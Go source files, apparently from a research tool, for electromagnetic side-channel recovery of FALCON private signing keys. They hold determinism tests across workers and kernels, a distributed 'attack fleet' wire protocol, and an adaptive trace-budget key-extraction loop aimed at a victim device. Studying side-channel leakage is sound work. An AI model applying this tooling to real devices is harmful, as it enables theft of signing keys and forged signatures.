	cfg := Config{Robust: RobustConfig{TrimSigmas: 4, ResyncShift: 2, Winsorize: 4}}

	refOut, refVals, refSidecar := runAttackAt(t, src, cfg, 1)
	for _, w := range []int{2, 3, 8} {
		out, vals, sidecar := runAttackAt(t, src, cfg, w)
		sameAttackOutput(t, fmt.Sprintf("robust workers=%d", w),
			refOut, refVals, refSidecar, out, vals, sidecar)
	}
}

func TestDifferentialRecoveredKeysIdenticalAcrossWorkers(t *testing.T) {
	// End-to-end: the assembled signing keys (f, g, F, G) and the
	// recovery reports must match, not just the raw FFT values.
	if testing.Short() {
		t.Skip("key recovery differential covered by the full suite")
	}
	n, traces := 16, 1500
	dev, _, pub := deviceFor(t, n, 2.0, 35)
	obs := collect(t, dev, traces, 36)
	src := tracestore.NewSliceSource(n, obs)

	cfg := Config{Workers: 1}
	refPriv, refRep, refErr := RecoverKeyFrom(src, pub, cfg)
	for _, w := range []int{3, 8} {
		cfg.Workers = w
		priv, rep, err := RecoverKeyFrom(src, pub, cfg)
		if (err == nil) != (refErr == nil) {
			t.Fatalf("workers=%d: error %v, reference %v", w, err, refErr)
		}
		if !reflect.DeepEqual(refPriv, priv) {
			t.Fatalf("workers=%d: recovered private key differs", w)
		}
		if !reflect.DeepEqual(refRep, rep) {
			t.Fatalf("workers=%d: recovery report differs", w)
		}
	}
}

func TestDifferentialFalcon64(t *testing.T) {
	// Structural parity at FALCON-64: same reduced trace budget as the
	// streamed-parity test, serial vs. eight workers.
	if testing.Short() {
		t.Skip("covered at n=8 by TestDifferentialAttackBitIdenticalAcrossWorkers in short mode")
	}
	dev, _, _ := deviceFor(t, 64, 2.0, 21)
	obs := collect(t, dev, 400, 22)
	src := tracestore.NewSliceSource(64, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)
	out, vals, sidecar := runAttackAt(t, src, Config{}, 8)
	sameAttackOutput(t, "falcon64 workers=8",
		refOut, refVals, refSidecar, out, vals, sidecar)
}

// failingStore wraps a CheckpointStore and starts failing Save after a
// set number of successes — the "process killed mid-campaign" fixture.
type failingStore struct {
	inner     CheckpointStore
	remaining int
}

var errKilled = errors.New("simulated crash")

func (s *failingStore) Load() (*Checkpoint, error) { return s.inner.Load() }

func (s *failingStore) Save(ck *Checkpoint) error {
	if s.remaining <= 0 {
		return errKilled
	}
	s.remaining--
	return s.inner.Save(ck)
}

func TestDifferentialResumeSwitchesWorkerCounts(t *testing.T) {
	// A campaign checkpointed at one worker count must resume at any
	// other and still land bit-identical to the uninterrupted serial run:
	// the sidecar records worker-topology-independent state only.
	dev, _, _ := deviceFor(t, 8, 2.0, 37)
	obs := collect(t, dev, 400, 38)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)

	for _, sw := range []struct {
		first, second int
		stages        int // completed phases before the simulated crash
	}{
		{first: 8, second: 1, stages: 2},
		{first: 1, second: 8, stages: 2},
		{first: 3, second: 2, stages: 4},
	} {
		store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
		cfg := Config{Workers: sw.first}
		_, _, err := AttackFFTfResumable(src, cfg, &failingStore{inner: store, remaining: sw.stages})
		if !errors.Is(err, errKilled) {
			t.Fatalf("W=%d→%d: interrupted run returned %v, want simulated crash", sw.first, sw.second, err)
		}

		cfg.Workers = sw.second
		out, vals, err := AttackFFTfResumable(src, cfg, store)
		if err != nil {
			t.Fatalf("W=%d→%d: resume: %v", sw.first, sw.second, err)
		}
		sidecar, err := os.ReadFile(store.Path)
		if err != nil {
			t.Fatal(err)
		}
		sameAttackOutput(t, fmt.Sprintf("resume W=%d→%d", sw.first, sw.second),
			refOut, refVals, refSidecar, out, vals, sidecar)
	}
}

func TestDifferentialKernelsBitIdenticalAcrossWorkers(t *testing.T) {
	// The execution kernel is a pure scheduling choice, exactly like the
	// worker count: scalar, blocked and fixed-point runs must produce
	// byte-identical keys, reports and sidecars at every worker count.
	// The reference is the scalar serial run.
	dev, _, _ := deviceFor(t, 8, 2.0, 41)
	obs := collect(t, dev, 400, 42)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)
	for _, k := range []Kernel{KernelScalar, KernelBlocked, KernelFixed} {
		for _, w := range []int{1, 2, 8} {
			out, vals, sidecar := runAttackAt(t, src, Config{Kernel: k}, w)
			sameAttackOutput(t, fmt.Sprintf("kernel=%s workers=%d", k, w),
				refOut, refVals, refSidecar, out, vals, sidecar)
		}
	}
}

func TestDifferentialRobustKernelsBitIdentical(t *testing.T) {
	// The robust preprocessing plan must also be kernel-independent: a
	// kernel-dependent trim or resync decision would poison every later
	// stage, so the dirty corpus gets its own kernel sweep.
	if testing.Short() {
		t.Skip("robust kernel differential covered by the full suite")
	}
	dev, _, _ := deviceFor(t, 8, 1.5, 43)
	obs := dirtyCorpus(t, dev, 500)
	src := tracestore.NewSliceSource(8, obs)
	robust := RobustConfig{TrimSigmas: 4, ResyncShift: 2, Winsorize: 4}

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{Robust: robust}, 1)
	for _, k := range []Kernel{KernelBlocked, KernelFixed} {
		out, vals, sidecar := runAttackAt(t, src, Config{Robust: robust, Kernel: k}, 8)
		sameAttackOutput(t, fmt.Sprintf("robust kernel=%s", k),
			refOut, refVals, refSidecar, out, vals, sidecar)
	}
}

func TestDifferentialResumeSwitchesKernels(t *testing.T) {
	// A campaign checkpointed under one kernel must resume under any
	// other and still land bit-identical to the uninterrupted scalar
	// serial run: the sidecar records kernel-independent state only
	// (Config.Kernel is zeroed out of the binding, like Workers).
	dev, _, _ := deviceFor(t, 8, 2.0, 45)
	obs := collect(t, dev, 400, 46)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)

	for _, sw := range []struct {
		first, second Kernel
		stages        int
	}{
		{first: KernelScalar, second: KernelBlocked, stages: 2},
		{first: KernelBlocked, second: KernelFixed, stages: 2},
		{first: KernelFixed, second: KernelScalar, stages: 4},
	} {
		store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
		cfg := Config{Kernel: sw.first, Workers: 2}
		_, _, err := AttackFFTfResumable(src, cfg, &failingStore{inner: store, remaining: sw.stages})
		if !errors.Is(err, errKilled) {
			t.Fatalf("kernel %s→%s: interrupted run returned %v, want simulated crash",
				sw.first, sw.second, err)
		}

		cfg.Kernel = sw.second
		out, vals, err := AttackFFTfResumable(src, cfg, store)
		if err != nil {
			t.Fatalf("kernel %s→%s: resume: %v", sw.first, sw.second, err)
		}
		sidecar, err := os.ReadFile(store.Path)
		if err != nil {
			t.Fatal(err)
		}
		sameAttackOutput(t, fmt.Sprintf("resume kernel %s→%s", sw.first, sw.second),
			refOut, refVals, refSidecar, out, vals, sidecar)
	}
}

func TestParallelMapIndexesMatchSerial(t *testing.T) {
	// parallelMap keys results by corpus index, so any worker count
	// reproduces the serial pass exactly.
	dev, _, _ := deviceFor(t, 8, 2.0, 39)
	obs := collect(t, dev, 200, 40)
	src := tracestore.NewSliceSource(8, obs)
	ref := make([]float64, len(obs))
	if err := parallelMap(src, 1, func(idx int, o emleak.Observation) {
		ref[idx] = o.Trace.Samples[0]
	}); err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{2, 8} {
		got := make([]float64, len(obs))
		if err := parallelMap(src, w, func(idx int, o emleak.Observation) {
			got[idx] = o.Trace.Samples[0]
		}); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(ref, got) {
			t.Fatalf("workers=%d: parallelMap results differ", w)
		}
	}
}
