package core

// Wire layer for the distributed attack fleet (internal/cluster). A
// coordinator describes each campaign pass as plain data — how to rebuild
// its view of the corpus (SourceSpec) and the zero-state accumulator jobs
// of the pass (JobSpec) — and workers answer with per-shard partial
// accumulator states (ShardPartial). The coordinator folds decoded
// partials in strict shard-index order through the very same merge calls
// the local engine uses, so a distributed pass executes the identical
// sequence of floating-point operations as serialPass: byte-identity
// across the fleet falls out of the pinned reduction of parallel.go, not
// of any cross-node trust.
//
// The contract hinges on two properties, both tested:
//   - every float64 crosses the wire as its IEEE-754 bit pattern (see
//     internal/cpa/state.go), so decode(encode(clone)) merges bit-exactly
//     like the clone itself;
//   - a worker rebuilding a job from its JobSpec derives exactly the
//     read-only configuration (targets, candidate lists, sample offsets)
//     that the coordinator's live job holds, because that configuration
//     is a pure function of the spec fields.

import (
	"fmt"
	"sync"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fpr"
	"falcondown/internal/tracestore"
)

// SourceSpec tells a worker how to rebuild the coordinator's view of the
// raw corpus: mask layers applied in order (each indexing into the view
// produced by the previous layer), then the robust-preprocessing
// transform. The zero value is the raw corpus itself.
type SourceSpec struct {
	Masks  [][]int         `json:"masks,omitempty"`
	Robust *RobustPlanSpec `json:"robust,omitempty"`
	// Pin, when set, names the exact corpus content the view was built
	// over. A worker must refuse to sweep a replica whose shard digests
	// disagree — a divergent replica is well-formed and passes every CRC
	// check, so content addressing is the only defense.
	Pin *CorpusPin `json:"pin,omitempty"`
}

// CorpusPin is the content identity of the coordinator's corpus: the
// ordered per-shard-file SHA-256 digests and the corpus-level manifest
// digest binding them (see tracestore.Manifest). Note these address
// shard *files*, not the 64-observation logical shards of the pinned
// reduction.
type CorpusPin struct {
	Manifest string   `json:"manifest"`
	Shards   []string `json:"shards"`
}

// manifested is satisfied by sources whose content can be addressed —
// notably *tracestore.Corpus.
type manifested interface {
	Manifest() (*tracestore.Manifest, error)
}

// pinOf derives the content pin of a raw corpus, or nil when the source
// is not content-addressable (in-memory slices, test doubles) or cannot
// be hashed; distribution then proceeds unpinned, exactly as before
// pins existed.
func pinOf(raw Source) *CorpusPin {
	m, ok := raw.(manifested)
	if !ok {
		return nil
	}
	man, err := m.Manifest()
	if err != nil {
		return nil
	}
	pin := &CorpusPin{Manifest: man.Digest}
	for _, s := range man.Shards {
		pin.Shards = append(pin.Shards, s.SHA256)
	}
	return pin
}

// RobustPlanSpec is the frozen robust-preprocessing plan (see robust.go):
// the resync template and winsorization bands as packed IEEE-754 bits.
// It captures the plan's *data*, so a worker applies the identical
// transform without re-deriving it.
type RobustPlanSpec struct {
	ResyncShift int    `json:"resyncShift,omitempty"`
	Template    string `json:"template,omitempty"`
	Lo          string `json:"lo,omitempty"`
	Hi          string `json:"hi,omitempty"`
	NSamp       int    `json:"nSamp"`
}

// planSpec snapshots the source's current transform plan. The snapshot is
// deep (packed strings), so later refinement of the bounds does not
// mutate a spec already shipped.
func (s *robustSource) planSpec() *RobustPlanSpec {
	p := &RobustPlanSpec{ResyncShift: s.cfg.ResyncShift}
	if s.template != nil {
		p.Template = cpa.PackFloats(s.template)
		p.NSamp = len(s.template)
	}
	if s.lo != nil {
		p.Lo = cpa.PackFloats(s.lo)
		p.Hi = cpa.PackFloats(s.hi)
		p.NSamp = len(s.lo)
	}
	return p
}

// robustFromPlan rebuilds a transform-only robustSource (nil inner; only
// apply is usable) from a shipped plan.
func robustFromPlan(p *RobustPlanSpec) (*robustSource, error) {
	rs := &robustSource{cfg: RobustConfig{ResyncShift: p.ResyncShift}}
	var err error
	if p.Template != "" {
		if rs.template, err = cpa.UnpackFloats(p.Template, p.NSamp); err != nil {
			return nil, err
		}
	}
	if p.Lo != "" {
		if rs.lo, err = cpa.UnpackFloats(p.Lo, p.NSamp); err != nil {
			return nil, err
		}
		if rs.hi, err = cpa.UnpackFloats(p.Hi, p.NSamp); err != nil {
			return nil, err
		}
	}
	return rs, nil
}

// BuildSource applies a SourceSpec to a raw corpus, reproducing the
// coordinator's view byte-for-byte: mask layers in order, then the robust
// transform with clamping active when bands are present.
func BuildSource(raw Source, spec SourceSpec) (Source, error) {
	src := raw
	for _, mask := range spec.Masks {
		for _, idx := range mask {
			if idx < 0 || idx >= src.Count() {
				return nil, fmt.Errorf("core: mask index %d outside corpus of %d traces", idx, src.Count())
			}
		}
		src = tracestore.NewMaskedSource(src, mask)
	}
	if spec.Robust != nil {
		rs, err := robustFromPlan(spec.Robust)
		if err != nil {
			return nil, err
		}
		rs.inner = src
		src = rs
	}
	return src, nil
}

// JobSpec describes one pass job as plain data — enough for a worker to
// rebuild a zero-state accumulator whose observe() performs the identical
// arithmetic as the coordinator's. Kind selects the job type; the other
// fields are that kind's read-only configuration.
type JobSpec struct {
	Kind  string   `json:"kind"`
	Coeff int      `json:"coeff,omitempty"`
	Part  int      `json:"part,omitempty"`
	High  bool     `json:"high,omitempty"`
	Next  []uint64 `json:"next,omitempty"` // extend: candidate values
	Mask  uint64   `json:"mask,omitempty"` // extend: product mask
	D     []uint64 `json:"d,omitempty"`    // prune: pair d values
	C     []uint64 `json:"c,omitempty"`    // prune: pair c values
	AbsRe uint64   `json:"absRe,omitempty"`
	AbsIm uint64   `json:"absIm,omitempty"`
	Clamp bool     `json:"clamp,omitempty"`
	// Transform carries the welford job's input transform (the robust
	// refinement pass sees traces through the first-round plan).
	Transform *RobustPlanSpec `json:"transform,omitempty"`
}

// JobState is the wire form of one job's accumulators: CPA engines, a
// matrix engine, or per-sample running stats, depending on the job kind.
type JobState struct {
	Engines []cpa.EngineState       `json:"engines,omitempty"`
	Matrix  *cpa.MatrixEngineState  `json:"matrix,omitempty"`
	Stats   []cpa.RunningStatsState `json:"stats,omitempty"`
}

// ShardPartial is one corpus shard's partial accumulation of a block of
// jobs, in job order.
type ShardPartial struct {
	Shard  int        `json:"shard"`
	States []JobState `json:"states"`
}

// wireJob is a mergeJob that can cross the wire: spec() describes its
// configuration, state() snapshots its accumulators bit-exactly, and
// fromState decodes a partial's accumulators into a mergeable clone,
// validating the shapes against the receiver's own configuration (a
// corrupted or mismatched partial is an error, never a silent misfold).
type wireJob interface {
	mergeJob
	spec() JobSpec
	state() JobState
	fromState(st JobState) (mergeJob, error)
}

// engineStates packs a list of engines.
func engineStates(engines []*cpa.Engine) []cpa.EngineState {
	out := make([]cpa.EngineState, len(engines))
	for i, e := range engines {
		out[i] = e.State()
	}
	return out
}

// decodeEngines decodes a partial's engine list, demanding the count and
// per-engine hypothesis width of the receiving job.
func decodeEngines(st JobState, count, nHyp int) ([]*cpa.Engine, error) {
	if len(st.Engines) != count {
		return nil, fmt.Errorf("core: partial carries %d engines, job has %d", len(st.Engines), count)
	}
	out := make([]*cpa.Engine, count)
	for i, es := range st.Engines {
		e, err := cpa.EngineFromState(es)
		if err != nil {
			return nil, err
		}
		if e.NHyp() != nHyp {
			return nil, fmt.Errorf("core: partial engine %d has %d hypotheses, job expects %d", i, e.NHyp(), nHyp)
		}
		out[i] = e
	}
	return out, nil
}

// --- wireJob implementations -------------------------------------------

func (j *expJob) spec() JobSpec {
	return JobSpec{Kind: "exp", Coeff: j.coeff, Part: int(j.part)}
}

func (j *expJob) state() JobState {
	return JobState{Engines: engineStates(j.engines[:])}
}

func (j *expJob) fromState(st JobState) (mergeJob, error) {
	engines, err := decodeEngines(st, 2, nExpHyp)
	if err != nil {
		return nil, err
	}
	return &expJob{coeff: j.coeff, part: j.part, kern: j.kern, engines: [2]*cpa.Engine{engines[0], engines[1]}}, nil
}

func (j *signJob) spec() JobSpec {
	return JobSpec{Kind: "sign", Coeff: j.coeff, Part: int(j.part)}
}

func (j *signJob) state() JobState {
	return JobState{Engines: engineStates(j.engines[:])}
}

func (j *signJob) fromState(st JobState) (mergeJob, error) {
	engines, err := decodeEngines(st, 2, 2)
	if err != nil {
		return nil, err
	}
	return &signJob{coeff: j.coeff, part: j.part, kern: j.kern, engines: [2]*cpa.Engine{engines[0], engines[1]}}, nil
}

func (j *extendRoundJob) spec() JobSpec {
	return JobSpec{
		Kind: "extend", Coeff: j.coeff, Part: int(j.part), High: j.high,
		Next: j.next, Mask: j.mask,
	}
}

func (j *extendRoundJob) state() JobState {
	return JobState{Engines: engineStates(j.engines)}
}

func (j *extendRoundJob) fromState(st JobState) (mergeJob, error) {
	engines, err := decodeEngines(st, len(j.engines), len(j.next))
	if err != nil {
		return nil, err
	}
	c := j.clone().(*extendRoundJob)
	c.engines = engines
	return c, nil
}

func (j *pruneJob) spec() JobSpec {
	d := make([]uint64, len(j.pairs))
	c := make([]uint64, len(j.pairs))
	for i, p := range j.pairs {
		d[i], c[i] = p.d, p.c
	}
	return JobSpec{Kind: "prune", Coeff: j.coeff, Part: int(j.part), D: d, C: c}
}

func (j *pruneJob) state() JobState {
	return JobState{Engines: engineStates(j.engines)}
}

func (j *pruneJob) fromState(st JobState) (mergeJob, error) {
	engines, err := decodeEngines(st, len(j.engines), len(j.pairs))
	if err != nil {
		return nil, err
	}
	c := j.clone().(*pruneJob)
	c.engines = engines
	return c, nil
}

func (j *jointSignJob) spec() JobSpec {
	return JobSpec{
		Kind: "jointsign", Coeff: j.coeff,
		AbsRe: uint64(fpr.Abs(j.cands[0].Re)),
		AbsIm: uint64(fpr.Abs(j.cands[0].Im)),
	}
}

func (j *jointSignJob) state() JobState {
	st := j.eng.State()
	return JobState{Matrix: &st}
}

func (j *jointSignJob) fromState(st JobState) (mergeJob, error) {
	if st.Matrix == nil {
		return nil, fmt.Errorf("core: joint-sign partial without a matrix engine")
	}
	eng, err := cpa.MatrixEngineFromState(*st.Matrix)
	if err != nil {
		return nil, err
	}
	if eng.NHyp() != 4 || eng.NSamp() != len(j.sampleOffsets) {
		return nil, fmt.Errorf("core: joint-sign partial shaped %dx%d, job expects 4x%d",
			eng.NHyp(), eng.NSamp(), len(j.sampleOffsets))
	}
	c := j.clone().(*jointSignJob)
	c.eng = eng
	return c, nil
}

func (j *welfordJob) spec() JobSpec {
	s := JobSpec{Kind: "welford", Clamp: j.clamp}
	if j.transform != nil {
		s.Transform = j.transform.planSpec()
	}
	return s
}

func (j *welfordJob) state() JobState {
	stats := make([]cpa.RunningStatsState, len(j.stats))
	for i := range j.stats {
		stats[i] = j.stats[i].State()
	}
	return JobState{Stats: stats}
}

func (j *welfordJob) fromState(st JobState) (mergeJob, error) {
	c := j.clone().(*welfordJob)
	if len(st.Stats) == 0 {
		return c, nil
	}
	c.stats = make([]cpa.RunningStats, len(st.Stats))
	for i, ss := range st.Stats {
		s, err := cpa.RunningStatsFromState(ss)
		if err != nil {
			return nil, err
		}
		c.stats[i] = s
	}
	return c, nil
}

// jobFromSpec rebuilds a zero-state job from its wire description. The
// rebuilt job's observe() performs the identical arithmetic as the
// coordinator's live job because every piece of read-only configuration
// is either shipped verbatim or a pure function of the spec fields. kern
// selects the local execution kernel only — it never appears in the spec
// because every kernel accumulates identical bits, so a worker is free to
// run whichever kernel its operator configured.
func jobFromSpec(s JobSpec, kern cpa.Kernel) (wireJob, error) {
	switch s.Kind {
	case "exp":
		return newExpJob(s.Coeff, Part(s.Part), kern), nil
	case "sign":
		return newSignJob(s.Coeff, Part(s.Part), kern), nil
	case "extend":
		targets := extendTargets(Part(s.Part), s.High)
		engines := make([]*cpa.Engine, len(targets))
		for i := range engines {
			engines[i] = cpa.NewEngineKernel(len(s.Next), kern)
		}
		return &extendRoundJob{
			coeff: s.Coeff, part: Part(s.Part), high: s.High, kern: kern,
			targets: targets, next: s.Next, mask: s.Mask,
			engines: engines, h: make([]float64, len(s.Next)),
		}, nil
	case "prune":
		if len(s.D) != len(s.C) || len(s.D) == 0 {
			return nil, fmt.Errorf("core: prune spec with %d d and %d c candidates", len(s.D), len(s.C))
		}
		pairs := make([]mantPair, len(s.D))
		for i := range pairs {
			pairs[i] = mantPair{d: s.D[i], c: s.C[i]}
		}
		return pruneJobFromPairs(s.Coeff, Part(s.Part), pairs, kern), nil
	case "jointsign":
		return newJointSignJob(s.Coeff, fpr.FPR(s.AbsRe), fpr.FPR(s.AbsIm), kern), nil
	case "welford":
		j := &welfordJob{clamp: s.Clamp}
		if s.Transform != nil {
			rs, err := robustFromPlan(s.Transform)
			if err != nil {
				return nil, err
			}
			j.transform = rs
		}
		return j, nil
	default:
		return nil, fmt.Errorf("core: unknown job kind %q", s.Kind)
	}
}

// errStopSweep aborts a forEachShard walk early once the requested shard
// range has been produced.
var errStopSweep = fmt.Errorf("core: stop sweep")

// ComputeShardPartials is the worker entry point: rebuild the
// coordinator's corpus view and the pass jobs, accumulate shards
// [shardLo, shardHi) into fresh zero-state clones, and return their
// states in shard order. It never folds anything — folding is the
// coordinator's job, in global shard order.
func ComputeShardPartials(raw Source, view SourceSpec, specs []JobSpec, shardLo, shardHi int) ([]ShardPartial, error) {
	return ComputeShardPartialsKernel(raw, view, specs, shardLo, shardHi, KernelScalar)
}

// ComputeShardPartialsKernel is ComputeShardPartials with an explicit
// execution kernel. The partial states are byte-identical for every
// kernel, so a fleet may freely mix kernels across nodes — the
// cross-check and quarantine machinery (internal/cluster) would flag any
// kernel that broke this.
func ComputeShardPartialsKernel(raw Source, view SourceSpec, specs []JobSpec, shardLo, shardHi int, kern Kernel) ([]ShardPartial, error) {
	src, err := BuildSource(raw, view)
	if err != nil {
		return nil, err
	}
	jobs := make([]mergeJob, len(specs))
	for i, s := range specs {
		if jobs[i], err = jobFromSpec(s, kern); err != nil {
			return nil, err
		}
	}
	return computeLocalPartials(src, jobs, shardLo, shardHi)
}

// Distributor executes one campaign pass across the fleet: it must see
// every (shard, job) cell of the pass deposited into p exactly once —
// remotely, or via p.Compute locally — before returning nil.
type Distributor interface {
	RunPass(p *DistPass) error
}

// distSource tags a Source with the distributor that should execute its
// passes and the wire description workers use to rebuild the view.
// runPass recognizes it and fans the pass out; every other Source method
// delegates to the local view, so the rest of the attack code is
// oblivious to distribution.
type distSource struct {
	Source
	dist Distributor
	view SourceSpec
	// pin is the raw corpus's content identity, derived once at
	// WithDistributor and carried through every view rewrap (masking,
	// robust transforms) so each pass shipped to workers stays pinned to
	// the same bytes.
	pin *CorpusPin
}

// WithDistributor wraps a raw corpus so that every campaign pass over it
// is executed through dist. The source must be the untransformed corpus a
// worker can open by itself (masking and robust preprocessing derived
// later are described to workers through the wire view). When the corpus
// is content-addressable its shard digests are pinned into every shipped
// view, so workers reject divergent replicas.
func WithDistributor(raw Source, dist Distributor) Source {
	return &distSource{Source: raw, dist: dist, pin: pinOf(raw)}
}

// DistPass is one campaign pass prepared for distribution: the corpus
// view, the job descriptions, and the in-order fold state. A distributor
// calls Deposit for partials computed remotely and Compute for local
// fallback; DistPass guarantees each (shard, job) cell folds exactly once
// and in shard order, whatever the arrival order, duplication, or mix of
// remote and local execution.
type DistPass struct {
	view  SourceSpec
	specs []JobSpec
	local Source

	mu      sync.Mutex
	jobs    []mergeJob
	next    []int              // per job: next shard index to fold
	pending []map[int]mergeJob // per job: decoded partials awaiting their turn
	nShards int
	dups    int
}

// newDistPass prepares a pass for distribution; ok is false when any job
// cannot cross the wire (the caller then runs the pass locally).
func newDistPass(ds *distSource, jobs []mergeJob) (*DistPass, bool) {
	specs := make([]JobSpec, len(jobs))
	for i, j := range jobs {
		wj, ok := j.(wireJob)
		if !ok {
			return nil, false
		}
		specs[i] = wj.spec()
	}
	view := ds.view
	view.Pin = ds.pin
	p := &DistPass{
		view:    view,
		specs:   specs,
		local:   ds.Source,
		jobs:    jobs,
		next:    make([]int, len(jobs)),
		pending: make([]map[int]mergeJob, len(jobs)),
		nShards: (ds.Source.Count() + shardObs - 1) / shardObs,
	}
	return p, true
}

// View returns the corpus view workers must rebuild.
func (p *DistPass) View() SourceSpec { return p.view }

// Jobs returns the pass's job descriptions, in fold order.
func (p *DistPass) Jobs() []JobSpec { return p.specs }

// NumShards returns how many corpus shards the pass covers.
func (p *DistPass) NumShards() int { return p.nShards }

// NumJobs returns how many jobs the pass carries.
func (p *DistPass) NumJobs() int { return len(p.specs) }

// Duplicates reports how many deposited cells were dropped as duplicates
// (late lease re-issues, hedged attempts, replayed deliveries).
func (p *DistPass) Duplicates() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.dups
}

// Deposit folds one shard's partial for the job block starting at jobLo.
// Decoding validates every accumulator shape against the live job, so a
// corrupted or mis-addressed partial is rejected whole — nothing folds.
// Cells already folded or already pending are dropped as duplicates:
// depositing is idempotent, which is what makes lease re-issue and
// hedging safe.
func (p *DistPass) Deposit(jobLo int, sp ShardPartial) error {
	if sp.Shard < 0 || sp.Shard >= p.nShards {
		return fmt.Errorf("core: partial for shard %d of %d", sp.Shard, p.nShards)
	}
	if jobLo < 0 || jobLo+len(sp.States) > len(p.jobs) {
		return fmt.Errorf("core: partial for jobs [%d,%d) of %d", jobLo, jobLo+len(sp.States), len(p.jobs))
	}
	// Decode and validate the whole block before touching fold state, so a
	// partial that is half-good never half-folds.
	decoded := make([]mergeJob, len(sp.States))
	for i, st := range sp.States {
		d, err := p.jobs[jobLo+i].(wireJob).fromState(st)
		if err != nil {
			return err
		}
		decoded[i] = d
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for i, d := range decoded {
		j := jobLo + i
		if sp.Shard < p.next[j] {
			p.dups++
			continue
		}
		if p.pending[j] == nil {
			p.pending[j] = make(map[int]mergeJob)
		}
		if _, dup := p.pending[j][sp.Shard]; dup {
			p.dups++
			continue
		}
		p.pending[j][sp.Shard] = d
		for {
			q, ok := p.pending[j][p.next[j]]
			if !ok {
				break
			}
			delete(p.pending[j], p.next[j])
			p.jobs[j].merge(q)
			p.next[j]++
		}
	}
	return nil
}

// Compute runs a cell block locally, against the coordinator's own view —
// the graceful-degradation path when the fleet cannot take the work. The
// partials travel through the same encode path as remote ones, so local
// and remote execution are indistinguishable downstream.
func (p *DistPass) Compute(shardLo, shardHi, jobLo, jobHi int) ([]ShardPartial, error) {
	if jobLo < 0 || jobHi > len(p.specs) || jobLo >= jobHi {
		return nil, fmt.Errorf("core: compute of jobs [%d,%d) of %d", jobLo, jobHi, len(p.specs))
	}
	return computeLocalPartials(p.local, p.jobs[jobLo:jobHi], shardLo, shardHi)
}

// computeLocalPartials accumulates shards [shardLo, shardHi) of src into
// fresh clones of the given live jobs and encodes the partial states.
func computeLocalPartials(src Source, jobs []mergeJob, shardLo, shardHi int) ([]ShardPartial, error) {
	var out []ShardPartial
	idx := 0
	err := forEachShard(src, func(shard []emleak.Observation) error {
		k := idx
		idx++
		if k < shardLo {
			return nil
		}
		if k >= shardHi {
			return errStopSweep
		}
		sp := ShardPartial{Shard: k, States: make([]JobState, len(jobs))}
		for i, j := range jobs {
			c := j.clone()
			accumulateShard(c, shard)
			sp.States[i] = c.(wireJob).state()
		}
		out = append(out, sp)
		return nil
	})
	if err != nil && err != errStopSweep {
		return nil, err
	}
	return out, nil
}

// incomplete returns an error naming the first unfolded cell, or nil when
// every (shard, job) cell has folded — the pass's completion check.
func (p *DistPass) incomplete() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	for j, n := range p.next {
		if n < p.nShards {
			return fmt.Errorf("core: distributed pass incomplete: job %d folded %d of %d shards", j, n, p.nShards)
		}
	}
	return nil
}
