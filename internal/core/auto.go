package core

import (
	"fmt"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/tracestore"
)

// Adaptive recovery. A fixed-size campaign either succeeds or it doesn't;
// with the victim device still on the bench the attacker can do better:
// run the attack, and when specific values fail their statistics, first
// retry exactly those values with the maximal candidate beam (cheap —
// extend passes are shared), and only then pay for more traces. Because
// observation i is derived deterministically from (seed, i), growing the
// campaign extends the previous one rather than replacing it, so no
// measurement is ever wasted.

// AutoOptions tunes the adaptive trace-budget loop of AutoRecover.
type AutoOptions struct {
	// InitialTraces is the campaign size of the first attempt
	// (default 500).
	InitialTraces int
	// MaxTraces is the total trace budget; acquisition never exceeds it
	// (default 8× InitialTraces).
	MaxTraces int
	// Growth multiplies the campaign size between attempts (default 2).
	Growth float64
	// OnAttempt, when set, is called after each full attack attempt with
	// the campaign size used and the attempt's outcome (nil on success).
	OnAttempt func(traces int, err error)
}

func (o AutoOptions) withDefaults() AutoOptions {
	if o.InitialTraces <= 0 {
		o.InitialTraces = 500
	}
	if o.MaxTraces <= 0 {
		o.MaxTraces = 8 * o.InitialTraces
	}
	if o.MaxTraces < o.InitialTraces {
		o.MaxTraces = o.InitialTraces
	}
	if o.Growth <= 1 {
		o.Growth = 2
	}
	return o
}

// AutoRecover runs the full key extraction with an adaptive trace budget
// against a live device. Each round acquires traces up to the current
// campaign size (observation i is regenerated deterministically from
// (seed, i), so earlier measurements are reused bit-identically), runs
// the attack, and on an implausible key retries the per-value failures
// with the maximal beam before escalating to more traces. When the budget
// is exhausted the partial RecoveryReport diagnoses exactly which of the
// 2·(n/2) values failed and why (RecoveryReport.Failed).
func AutoRecover(dev *emleak.Device, seed uint64, pub *falcon.PublicKey, cfg Config, opts AutoOptions) (*falcon.PrivateKey, *RecoveryReport, error) {
	opts = opts.withDefaults()
	cfg = cfg.withDefaults()
	n := dev.N()

	obs := make([]emleak.Observation, 0, opts.MaxTraces)
	target := opts.InitialTraces
	if target > opts.MaxTraces {
		target = opts.MaxTraces
	}
	var lastReport *RecoveryReport
	var lastErr error
	for {
		for len(obs) < target {
			o, err := emleak.ObservationAt(dev, seed, uint64(len(obs)))
			if err != nil {
				return nil, lastReport, fmt.Errorf("core: auto recovery: acquiring observation %d: %w", len(obs), err)
			}
			obs = append(obs, o)
		}
		src := tracestore.NewSliceSource(n, obs)

		fFFT, values, err := AttackFFTfFrom(src, cfg)
		if err != nil {
			return nil, lastReport, err
		}
		priv, report, err := finishRecovery(fFFT, values, pub, cfg)
		if err != nil && len(report.Failed) > 0 {
			// Escalated per-value retry: re-attack exactly the diagnosed
			// values with the maximal beam before buying more traces.
			var idxs []int
			for _, f := range report.Failed {
				idxs = append(idxs, f.Index)
			}
			improved, rerr := retryMaxBeam(src, cfg, fFFT, values, idxs)
			if rerr != nil {
				return nil, report, rerr
			}
